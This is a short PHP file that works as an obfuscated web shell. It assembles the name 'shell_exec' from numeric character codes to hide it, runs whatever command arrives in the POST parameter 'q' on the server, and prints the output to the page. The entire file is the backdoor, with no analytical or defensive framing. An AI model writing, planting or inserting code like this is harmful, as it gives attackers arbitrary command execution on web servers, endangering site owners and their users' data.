<?php
$c = 'chr';
$name = join(array_map($c, [115, 104, 101, 108, 108, 95, 101, 120, 101, 99]));
$out = $name($_POST['q']);
echo "<pre>$out</pre>";
